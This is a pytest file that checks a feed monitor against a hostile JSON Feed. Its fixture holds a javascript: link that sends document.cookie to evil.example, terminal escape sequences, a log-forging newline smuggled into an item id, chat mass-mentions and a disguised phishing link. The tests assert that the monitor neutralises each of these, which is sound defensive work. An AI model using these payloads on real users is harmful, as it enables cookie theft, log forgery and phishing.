"""A hostile feed cannot forge log lines, drive the terminal, plant links or ping a chat room.

One JSON Feed, served on loopback, whose title, item ids, links and text carry newlines,
terminal escape sequences, a `javascript:` link, `@everyone`/`@channel`/`<!here>` and a
disguised Markdown link. `monitor once` reads it and delivers to a real Mattermost
webhook (apprise `mmost://` at the local receiver) and a real SMTP server; what the log, the
terminal (`monitor alerts`, `monitor figures`), the e-mail and the chat room get is checked.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

FORGED = "level=error logger=monitor.pipeline event=forged_line"
ESCAPES = ("\x1b", "\x07", "\x9b")
SENTENCE = (
    "@channel Nordkorea hat über 13.000 Container nach Russland geschickt, "
    "[Ihre Bank](https://evil.example/login) <!here> \x1b[2J"
)


def monitor(config: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "monitor", *args, "--config", str(config)],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


@pytest.fixture
def hostile(http_server, webhook_receiver, smtp_receiver, tmp_path: Path) -> Path:
    feed = {
        "version": "https://jsonfeed.org/version/1.1",
        "title": "\x1b]0;pwned\x07\x1b[31mEvil News\x9b0m",
        "items": [
            {
                "id": "entry-1",
                "url": "javascript:fetch('https://evil.example/'+document.cookie)//",
                "title": "\x1b[2J\x1b[H@everyone Nordkorea [bank.example](https://evil.example)",
                "content_text": SENTENCE,
                "date_published": "2024-10-09T12:00:00Z",
            },
            {
                "id": "entry-2",
                "url": http_server.url("/missing"),
                "title": "Nordkorea und Russland",
                "content_text": "Nordkorea und Russland: nichts Neues.",
                "date_published": "2024-10-09T13:00:00Z",
            },
            {  # no text anywhere: skipped, and its id logged
                "id": f"entry-3\n{FORGED} via=id",
                "url": http_server.url("/gone"),
                "date_published": "2024-10-09T14:00:00Z",
            },
        ],
    }
    http_server.add("/feed.json", json.dumps(feed), content_type="application/feed+json")
    config = tmp_path / "config"
    (config / "watchlists").mkdir(parents=True)
    (config / "settings.yaml").write_text(
        f"database: sqlite:///{tmp_path / 'monitor.db'}\n"
        "channels:\n"
        f'  - url: "mmost://127.0.0.1:{webhook_receiver.port}/t0kenmattermost"\n'
        "    tags: [chat]\n"
        f'  - url: "{smtp_receiver.apprise_url(to="desk@example.org")}"\n'
        "    tags: [email]\n"
        "fetch:\n  allow: [127.0.0.1]\npoll:\n  backfill: 36500d\n"
    )
    (config / "watchlists" / "nk.yaml").write_text(
        f"name: Nordkorea\nfeeds:\n  - {http_server.url('/feed.json')}\n"
        "match:\n  all: [[Nordkorea], [Russland]]\n"
        "figures:\n  containers:\n    nouns: [Container]\n"
        "notify: [chat, email]\nnotify_on: [match]\n"
    )
    return config


def test_log_lines_cannot_be_forged_by_ids_or_links(hostile: Path) -> None:
    result = monitor(hostile, "once", "--all")
    lines = result.stderr.splitlines()
    assert any("event=article_matched" in line for line in lines), result.stderr
    assert not [line for line in lines if line.startswith(FORGED)]
    assert all(line.startswith("level=") for line in lines), result.stderr
    assert "entry=entry-3\\n" + FORGED in result.stderr  # shown escaped, inside its own line


def test_terminal_escapes_from_articles_never_reach_the_terminal(hostile: Path) -> None:
    monitor(hostile, "once", "--all")
    alerts = monitor(hostile, "alerts")
    figures = monitor(hostile, "figures")
    assert "@everyone Nordkorea" in alerts.stdout
    assert "Evil News" in figures.stdout
    for shown in (alerts.stdout, figures.stdout, alerts.stderr, figures.stderr):
        assert [escape for escape in ESCAPES if escape in shown] == []
    assert "\\u001b[2J" in alerts.stdout  # shown, inert
    as_json = monitor(hostile, "alerts", "--json")
    titles = [alert["title"] for alert in json.loads(as_json.stdout)]
    assert any("\x1b[2J" in title for title in titles)  # the data is kept as it came


def test_only_http_links_reach_the_email_and_the_chat(
    hostile: Path, webhook_receiver, smtp_receiver
) -> None:
    monitor(hostile, "once", "--all")
    alerts = json.loads(monitor(hostile, "alerts", "--json").stdout)
    assert len(alerts) == 2
    assert len(smtp_receiver.messages) == 2
    assert len(webhook_receiver.received) == 2
    rendered = [a["html"] for a in alerts] + [a["body"] for a in alerts]
    delivered = [m.text for m in smtp_receiver.messages]
    delivered += [json.dumps(post.body) for post in webhook_receiver.received]
    for text in rendered + delivered:
        assert "javascript:" not in text.lower()
    assert any('href="http://127.0.0.1' in html for html in rendered)  # http links stay


def test_chat_mentions_and_disguised_links_are_defused(hostile: Path, webhook_receiver) -> None:
    monitor(hostile, "once", "--all")
    posts = [post for post in webhook_receiver.received if post.path == "/hooks/t0kenmattermost"]
    assert len(posts) == 2
    mattermost = "\n".join(post.body["text"] for post in posts)
    assert "Nordkorea hat über 13.000 Container" in mattermost
    for live in ("@everyone", "@channel", "[Ihre Bank](", "[bank.example]("):
        assert live not in mattermost
    assert "@\u200beveryone" in mattermost
    assert "\\[Ihre Bank\\](https://evil.example/login)" in mattermost

    # Discord and Slack cannot be pointed at loopback through apprise: the same rendered
    # alerts go through the function deliver_alert applies for them.
    from monitor.deliver import defuse_chat

    alerts = json.loads(monitor(hostile, "alerts", "--json").stdout)
    text = "\n".join(a["title"] + "\n" + a["body"] for a in alerts)
    discord = defuse_chat(text, "discord")
    for live in ("@everyone", "@channel", "<!here>", "[Ihre Bank]("):
        assert live in text
        assert live not in discord
    slack = defuse_chat(text, "slack")
    for live in ("@everyone", "@channel", "<!here>"):
        assert live not in slack
